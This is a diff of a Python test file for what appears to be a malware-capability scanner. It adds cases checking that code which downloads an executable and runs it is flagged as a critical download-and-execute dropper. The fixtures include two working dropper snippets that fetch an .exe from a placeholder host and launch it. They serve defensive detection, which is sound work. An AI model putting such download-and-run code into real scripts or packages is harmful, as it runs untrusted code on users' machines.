@@ -1654,3 +1654,41 @@ def test_the_interpreter_running_a_script_computed_at_run_time_is_not_a_build_to
         """
     tools = {cap.line: cap.tool for cap in found(profile(source, "setup.py"), "process-spawn")}
     assert tools == {2: True, 3: False}
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        """\
+        import os, requests
+        def script():
+            file = os.environ["TEMP"] + "\\\\setup.exe"
+            open(file, "wb").write(requests.get("https://a.example/x.exe").content)
+            os.system(file)
+        """,
+        """\
+        import os, urllib.request
+        def init():
+            data = urllib.request.urlopen("https://a.example/x.exe").read()
+            with open("download.exe", "wb") as f:
+                f.write(data)
+            os.startfile("download.exe")
+        """,
+    ],
+)
+def test_a_download_written_to_a_file_and_run_is_download_exec(source: str) -> None:
+    cap = one(profile(source), "download-exec", "download+write+run")
+    assert cap.specific
+    assert cap.severity is Severity.CRITICAL
+
+
+def test_running_a_file_that_was_not_downloaded_is_no_dropper() -> None:
+    source = """\
+        import subprocess, requests
+        def fetch():
+            return requests.get("https://a.example/data.json").json()
+        def build(out):
+            open(out, "w").write("x")
+            subprocess.run(["cmake", "--build", "."])
+        """
+    assert not found(profile(source), "download-exec")
